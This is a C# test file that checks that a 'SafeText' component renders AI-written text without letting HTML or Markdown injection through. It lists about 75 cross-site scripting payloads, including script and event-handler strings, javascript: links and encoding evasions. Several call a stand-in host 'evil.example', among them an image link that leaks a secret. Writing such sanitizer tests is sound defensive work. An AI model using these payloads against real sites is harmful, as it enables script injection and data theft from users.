using AgentSystem.Web.Components.Controls;
using AngleSharp.Dom;
using Bunit;
using CsCheck;

namespace AgentSystem.Tests.Web.Components.Controls;

/// <summary>Whatever a model writes is text on the page: of Markdown only lists, code and strong words become elements, and none of them carries anything of the text in an attribute.</summary>
public sealed class SafeTextTests : BunitContext
{
    private static readonly string[] Elements = ["p", "pre", "code", "ol", "ul", "li", "strong"];

    private static readonly string[] Attributes = ["tabindex", "start"];

    public static TheoryData<string> Attacks =>
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\u2028>alert(1)</script>", "<script/x>alert(1)</script>", "</p><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "<img src=\"javascript:alert(1)\">", "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">", "<img src=x:x onerror\u000c=alert(1)>", "<img src onerror=\"&#97;lert(1)\">", "<image href=x onerror=alert(1)>",
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>", "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"></svg>", "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<math href=\"javascript:alert(1)\">x</math>", "<iframe src=\"javascript:alert(1)\"></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\">", "<object data=\"javascript:alert(1)\">", "<embed src=\"javascript:alert(1)\">",
        "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
        "<form action=\"javascript:alert(1)\"><button>x", "<button formaction=\"javascript:alert(1)\">x", "<isindex type=image src=1 onerror=alert(1)>", "<marquee onstart=alert(1)>", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<base href=\"javascript:alert(1)//\">", "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>@import '//evil.example/x.css';</style>", "<div style=\"background:url(javascript:alert(1))\">", "<p style=\"animation-name:x\" onanimationstart=alert(1)>", "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
        "[click](javascript:alert(1))", "[click](JaVaScRiPt:alert(1))", "[click](java\tscript:alert(1))", "[click](&#106;avascript:alert(1))", "[click](vbscript:msgbox(1))", "[click](data:text/html;base64,PHNjcmlwdD4=)", "[a][1]\n\n[1]: javascript:alert(1)", "<javascript:alert(1)>", "<https://evil.example/\" onmouseover=\"alert(1)>",
        "![x](https://evil.example/p.png?d=secret)", "![x](javascript:alert(1))", "![x\" onerror=\"alert(1)](x)", "![a][r]\n\n[r]: https://evil.example/p.png", "`<script>alert(1)</script>`", "``` \"><script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```", "**<img src=x onerror=alert(1)>**", "- <svg/onload=alert(1)>", "1. <iframe src=javascript:alert(1)>",
        "99999999. \"><script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#x3c;script&#x3e;alert(1)", "\u003cscript\u003ealert(1)", "＜script＞alert(1)＜/script＞", "%3Cscript%3Ealert(1)%3C/script%3E", "\0<script>alert(1)</script>", "<!--<script>-->alert(1)", "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href=\"javascript:alert(1)\"?>", "{{constructor.constructor('alert(1)')()}}", "@(alert(1))", "${alert(1)}",
    ];

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Render_OfAnAttack_IsTextAndNothingElse(string attack) => Holds(attack);

    [Fact]
    public void Attacks_AreAsManyAsWerePromised() => Assert.InRange(Attacks.Count, 60, int.MaxValue);

    [Fact]
    public void Render_OfAnyText_HasNoOtherElementsThanThose() =>
        Gen.OneOf(Gen.String[Gen.Char["<>/\"'=`*-1. \nabc&;:#![]()"], 0, 60], Gen.Select(Gen.OneOf<string>([.. Attacks.Select(static row => row.Data)]), Gen.OneOf("- ", "1. ", "**", "`", "```\n", "\n\n"), static (attack, mark) => mark + attack + mark))
            .Sample(text => Holds(text), iter: 300, threads: 1);

    private void Holds(string text)
    {
        var shown = Render<SafeText>(control => control.Add(static c => c.Text, text));
        var all = shown.Nodes.OfType<IElement>().SelectMany(static element => element.Descendants<IElement>().Prepend(element)).ToArray();

        Assert.All(all, static element => Assert.Contains(element.LocalName, Elements));
        // The one with a name of its own is how a style sheet of the component finds its elements; it is the compiler's, and empty.
        Assert.All(
            all.SelectMany(static element => element.Attributes),
            static attribute => Assert.True(attribute.Name.StartsWith("b-", StringComparison.Ordinal) ? attribute.Value.Length == 0 : Attributes.Contains(attribute.Name) && attribute.Value.All(char.IsAsciiDigit), attribute.Name));
    }
}
